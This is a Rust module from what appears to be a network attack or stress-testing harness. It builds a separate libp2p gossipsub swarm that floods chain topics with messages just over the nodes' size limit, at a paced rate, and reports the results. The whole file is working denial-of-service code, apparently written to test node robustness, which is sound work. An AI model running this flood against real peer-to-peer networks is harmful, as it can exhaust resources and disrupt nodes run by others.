//! `oversized`: gossip frames just over the largest message a node reads.
//!
//! The node library's network cannot send them: its gossipsub refuses to publish anything over
//! `MAX_GOSSIP_BYTES` (its `max_transmit_size`). So this attack runs a small swarm of its own:
//! TCP + noise + yamux + gossipsub with a larger limit, and nothing else (the nodes' sync,
//! identify and discovery requests to it simply fail). It learns the chain's topics from the
//! subscriptions the nodes announce, so it follows any change of topic names, and publishes
//! frames of [`FRAME_BYTES`] on each in turn. Its connected peers are published as the same
//! [`PeerInfo`] list the node's network gives, so the tracker and report are shared.

use std::collections::{BTreeSet, HashMap};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use anyhow::Context;
use futures::StreamExt;
use libp2p::gossipsub::{self, MessageAuthenticity, TopicHash};
use libp2p::swarm::SwarmEvent;
use libp2p::{Multiaddr, PeerId, Swarm, noise, tcp, yamux};
use tokio::sync::{mpsc, watch};

use node::network::{MAX_GOSSIP_BYTES, PeerInfo};

use crate::Cli;
use crate::attacks::{observed, paced, wait_connected};
use crate::tracker::{Extra, Outcome, Report};

/// Data bytes of one frame: 64 KiB over the nodes' limit.
pub const FRAME_BYTES: usize = MAX_GOSSIP_BYTES + 64 * 1024;
/// Frames queued per connection by this swarm's gossipsub (bounds its memory: each is ~10 MiB).
const HANDLER_QUEUE_LEN: usize = 8;
/// Frame requests queued from the pacing loop to the swarm task.
const COMMAND_QUEUE_LEN: usize = 64;
/// How often the bootnodes are dialled again while no peer is connected.
const REDIAL: Duration = Duration::from_secs(5);

pub async fn run(cli: &Cli) -> anyhow::Result<Report> {
    let swarm = build_swarm()?;
    let (peers_tx, peers_rx) = watch::channel(Vec::new());
    let (frames_tx, frames_rx) = mpsc::channel::<u64>(COMMAND_QUEUE_LEN);
    let sent = Arc::new(AtomicU64::new(0));
    let task = tokio::spawn(event_loop(
        swarm,
        cli.bootnode.clone(),
        frames_rx,
        peers_tx,
        sent.clone(),
    ));
    wait_connected(peers_rx.clone(), cli.connect_timeout()).await?;
    // Subscriptions arrive right after the connection.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let probe = sent.clone();
    let report = observed(
        cli,
        peers_rx,
        Arc::new(move || probe.load(Ordering::Relaxed)),
        async {
            let (attempted, elapsed) =
                paced(cli.rate, cli.duration(), |i| frames_tx.try_send(i).is_ok()).await;
            // Let the last frames be handed to gossipsub.
            tokio::time::sleep(Duration::from_millis(300)).await;
            let sent = sent.load(Ordering::Relaxed);
            Outcome {
                attempted,
                sent,
                unique_payloads: sent,
                unit: "messages",
                elapsed,
                extra: Extra {
                    frame_bytes: Some(FRAME_BYTES as u64),
                    ..Extra::default()
                },
            }
        },
    )
    .await;
    task.abort();
    report
}

fn build_swarm() -> anyhow::Result<Swarm<gossipsub::Behaviour>> {
    let swarm = libp2p::SwarmBuilder::with_new_identity()
        .with_tokio()
        .with_tcp(
            tcp::Config::default().nodelay(true),
            noise::Config::new,
            yamux::Config::default,
        )
        .context("transport")?
        .with_behaviour(|key| {
            let config = gossipsub::ConfigBuilder::default()
                .max_transmit_size(2 * FRAME_BYTES)
                .connection_handler_queue_len(HANDLER_QUEUE_LEN)
                .build()?;
            Ok(gossipsub::Behaviour::new(
                MessageAuthenticity::Signed(key.clone()),
                config,
            )?)
        })
        .context("gossipsub")?
        .with_swarm_config(|c| c.with_idle_connection_timeout(Duration::from_secs(60)))
        .build();
    Ok(swarm)
}

async fn event_loop(
    mut swarm: Swarm<gossipsub::Behaviour>,
    bootnodes: Vec<Multiaddr>,
    mut frames: mpsc::Receiver<u64>,
    peers: watch::Sender<Vec<PeerInfo>>,
    sent: Arc<AtomicU64>,
) {
    let mut connected: HashMap<PeerId, Multiaddr> = HashMap::new();
    let mut topics: BTreeSet<TopicHash> = BTreeSet::new();
    let mut redial = tokio::time::interval(REDIAL);
    loop {
        tokio::select! {
            event = swarm.select_next_some() => match event {
                SwarmEvent::ConnectionEstablished { peer_id, endpoint, .. } => {
                    connected.insert(peer_id, endpoint.get_remote_address().clone());
                    publish_peers(&peers, &connected);
                }
                SwarmEvent::ConnectionClosed { peer_id, num_established: 0, .. } => {
                    connected.remove(&peer_id);
                    publish_peers(&peers, &connected);
                }
                SwarmEvent::Behaviour(gossipsub::Event::Subscribed { topic, .. }) => {
                    topics.insert(topic);
                }
                _ => {}
            },
            frame = frames.recv() => {
                let Some(i) = frame else { return };
                if topics.is_empty() {
                    continue;
                }
                let topic = topics.iter().nth((i % topics.len() as u64) as usize).cloned();
                let Some(topic) = topic else { continue };
                let mut data = vec![0u8; FRAME_BYTES];
                data[..8].copy_from_slice(&i.to_le_bytes());
                // No peer, queues full: the frame is dropped, not counted.
                match swarm.behaviour_mut().publish(topic, data) {
                    Ok(_) => {
                        sent.fetch_add(1, Ordering::Relaxed);
                    }
                    Err(e) => tracing::debug!(%e, "oversized frame not sent"),
                }
            }
            _ = redial.tick() => {
                if connected.is_empty() {
                    for addr in &bootnodes {
                        if let Err(e) = swarm.dial(addr.clone()) {
                            tracing::debug!(%addr, %e, "cannot dial");
                        }
                    }
                }
            }
        }
    }
}

fn publish_peers(peers: &watch::Sender<Vec<PeerInfo>>, connected: &HashMap<PeerId, Multiaddr>) {
    let mut list: Vec<PeerInfo> = connected
        .iter()
        .map(|(p, a)| PeerInfo {
            peer_id: p.to_string(),
            address: a.to_string(),
            height: None,
        })
        .collect();
    list.sort_by(|a, b| a.peer_id.cmp(&b.peer_id));
    peers.send_replace(list);
}
